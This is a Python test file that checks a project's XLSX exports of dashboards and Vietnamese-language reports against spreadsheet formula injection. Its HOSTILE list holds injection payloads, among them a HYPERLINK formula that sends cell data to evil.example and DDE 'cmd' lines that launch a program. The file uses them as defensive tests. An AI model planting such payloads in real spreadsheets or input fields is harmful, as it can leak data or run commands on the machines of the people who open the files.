"""Exports never turn what users typed into spreadsheet formulas (formula injection)."""

import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from chiso.core import xlsx as dashboard_xlsx
from chiso.core.builders.base import Header, ReportDocument, Signature, Table
from chiso.core.builders.xlsx import STYLED_ROWS_MAX, XlsxBuilder
from chiso.core.spreadsheet import FORMULA_STARTS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text(data: bytes, expected: list[str]) -> None:
    cells = {c.value: c for c in _cells(data) if isinstance(c.value, str)}
    for text in expected:
        cell = cells[text]  # the text is kept exactly as typed
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text
    assert not any(c.data_type == "f" for c in _cells(data))


def test_dashboard_export_writes_formula_like_text_as_text():
    rows = [[text, 3, None] for text in HOSTILE]
    data = dashboard_xlsx.build("=Tiêu đề", ["Nhiệm vụ", "Số", "Ghi chú"], rows)
    _assert_text(data, [*HOSTILE, "=Tiêu đề"])


def _report(rows) -> bytes:
    table = Table(columns=["Nhiệm vụ", "Kết quả"], rows=rows, sheet="Phụ lục 1")
    doc = ReportDocument(
        header=Header("UBND TỈNH", "SỞ NỘI VỤ", "Số: 1/BC-SNV", "Đồng Nai"),
        title="BÁO CÁO",
        summary="Kết quả",
        blocks=[table],
        recipients=[],
        signature=Signature(["GIÁM ĐỐC"]),
    )
    return XlsxBuilder().build(doc)


def test_report_annex_writes_formula_like_text_as_text():
    _assert_text(_report([[text, "-"] for text in HOSTILE]), HOSTILE)


def test_large_report_annex_writes_formula_like_text_as_text():
    rows = [[f"Nhiệm vụ {i}", 1] for i in range(STYLED_ROWS_MAX)] + [[t, 2] for t in HOSTILE]
    _assert_text(_report(rows), HOSTILE)


@given(st.sampled_from(FORMULA_STARTS), st.text(max_size=40))
def test_any_text_starting_like_a_formula_stays_text(start, rest):
    text = (start + rest).replace("\x00", "")
    data = dashboard_xlsx.build("Tiêu đề", ["Nội dung"], [[text]])
    assert not any(c.data_type == "f" for c in _cells(data))
